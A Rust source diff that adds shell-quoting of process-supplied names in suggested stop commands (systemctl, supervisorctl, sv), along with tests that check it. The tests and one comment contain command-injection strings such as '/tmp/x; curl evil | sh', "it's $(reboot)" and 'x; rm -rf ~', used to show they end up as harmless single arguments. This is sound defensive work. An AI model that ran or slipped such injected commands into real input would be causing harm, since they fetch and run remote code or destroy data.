@@ -9,12 +9,13 @@
 //! judge. A restart policy systemd was not asked about, or did not give, is unknown, never
 //! guessed.
 
+use std::borrow::Cow;
 use std::fmt::Write as _;
 use std::sync::Arc;
 
 use crate::model::{
     Ancestor, Container, Engine, EngineView, Manager, OsText, Placement, ProcessDetails,
-    Provenance, Readable, Restart, Signal, Unit, UnitAnswer, inert, process_label,
+    Provenance, Readable, Restart, Signal, Unit, UnitAnswer, inert, inert_residue, process_label,
 };
 
 /// What a supervision is worked out from.
@@ -842,14 +843,25 @@ impl Link {
             Some(ForGood {
                 exact,
                 command: true,
+                verbatim: false,
                 note,
             })
         };
         match self {
-            Link::Unit { unit, .. } if !unit.is_scope() => match unit.manager {
-                Manager::System => command(format!("systemctl stop {}", unit.name), None),
-                Manager::User(_) => command(format!("systemctl --user stop {}", unit.name), None),
-            },
+            Link::Unit { unit, .. } if !unit.is_scope() => {
+                let user = match unit.manager {
+                    Manager::System => "",
+                    Manager::User(_) => " --user",
+                };
+                Some(ForGood {
+                    exact: format!("systemctl{user} stop {}", word(&unit.name)),
+                    command: true,
+                    // A valid unit name holds nothing a terminal acts on, and its escapes
+                    // (`\x2d`) are systemd's own: shown as they must be typed.
+                    verbatim: true,
+                    note: None,
+                })
+            }
             Link::Unit { .. } | Link::Session(_) => None,
             Link::Container {
                 engine, id, listed, ..
@@ -858,11 +870,12 @@ impl Link {
                     let name = listed
                         .as_ref()
                         .map_or_else(|| short_id(id).to_string(), |c| c.name.raw().to_string());
-                    command(format!("{} stop {name}", engine.name()), None)
+                    command(format!("{} stop {}", engine.name(), word(&name)), None)
                 }
                 Engine::Containerd | Engine::CriO | Engine::Kubernetes => Some(ForGood {
                     exact: "scaling its workload down with kubectl".into(),
                     command: false,
+                    verbatim: false,
                     note: Some("the kubelet restarts a container stopped any other way".into()),
                 }),
             },
@@ -885,18 +898,20 @@ impl Link {
                     command(
                         format!(
                             "supervisorctl{} stop PROGRAM",
-                            with(&|p| p.raw().to_string())
+                            with(&|p| word(p.raw()).into_owned())
                         ),
                         Some(format!(
                             "`supervisorctl{} status` shows which program has pid {pid}",
-                            with(&ToString::to_string)
+                            with(&|p| inert(&word(p.raw())).into_owned())
                         )),
                     )
                 }
                 Tool::Runit { service } => command(
                     format!(
                         "sv down {}",
-                        service.as_ref().map_or("SERVICE", OsText::raw)
+                        service
+                            .as_ref()
+                            .map_or(Cow::Borrowed("SERVICE"), |s| word(s.raw()))
                     ),
                     None,
                 ),
@@ -922,6 +937,21 @@ impl Link {
     }
 }
 
+/// `text` as one shell word: as it is when it holds nothing a shell would act on, else in
+/// single quotes. Names in a suggested command come from what processes show, and the user
+/// may paste it into a shell: a name like `x; rm -rf ~` must stay one harmless argument.
+fn word(text: &str) -> Cow<'_, str> {
+    let plain = !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
+    if plain {
+        Cow::Borrowed(text)
+    } else {
+        Cow::Owned(format!("'{}'", text.replace('\'', "'\\''")))
+    }
+}
+
 /// How to stop a process so that it stays stopped.
 #[derive(Debug, Clone, PartialEq, Eq)]
 struct ForGood {
@@ -929,6 +959,9 @@ struct ForGood {
     /// command.
     exact: String,
     command: bool,
+    /// Shown as it is (escaping only what a terminal would act on): backslashes in it are
+    /// part of what is to be typed.
+    verbatim: bool,
     /// How to fill it in or where it applies (inert).
     note: Option<String>,
 }
@@ -936,10 +969,15 @@ struct ForGood {
 impl ForGood {
     /// `` `supervisorctl stop PROGRAM` ``, as a terminal shows it.
     fn shown(&self) -> String {
-        if self.command {
-            format!("`{}`", inert(&self.exact))
+        let text = if self.verbatim {
+            inert_residue(&self.exact)
         } else {
-            inert(&self.exact).into_owned()
+            inert(&self.exact)
+        };
+        if self.command {
+            format!("`{text}`")
+        } else {
+            text.into_owned()
         }
     }
 
@@ -1652,6 +1690,35 @@ mod tests {
             "/system.slice/\\e]0;pwn\\x07.service: no systemd unit, no container"
         );
         assert!(path.headline().starts_with("no service manager"));
+    }
+
+    /// A suggested command may be pasted into a shell: a name a process chose stays one word.
+    #[test]
+    fn names_in_a_suggested_command_are_one_shell_word() {
+        let one = |argv: &[&str]| {
+            Case::new("0::/\n", vec![ancestor(66, argv[0], argv), init()])
+                .supervision()
+                .summary(Signal::Term)
+                .unwrap()
+                .stop_for_good
+                .unwrap()
+        };
+        assert_eq!(
+            one(&["supervisord", "-c", "/tmp/x; curl evil | sh"]),
+            "supervisorctl -c '/tmp/x; curl evil | sh' stop PROGRAM"
+        );
+        assert_eq!(
+            one(&["runsv", "it's $(reboot)"]),
+            "sv down 'it'\\''s $(reboot)'"
+        );
+        assert_eq!(one(&["runsv", "web-1.2"]), "sv down web-1.2");
+        let escaped = Case::new("0::/system.slice/foo\\x2dbar.service\n", vec![init()])
+            .unit(Restart::Always, Some(4812))
+            .supervision();
+        assert_eq!(
+            escaped.for_good().unwrap(),
+            "`systemctl stop 'foo\\x2dbar.service'`"
+        );
     }
 
     /// An ancestor that exited while it was read keeps the name and pid that were read.
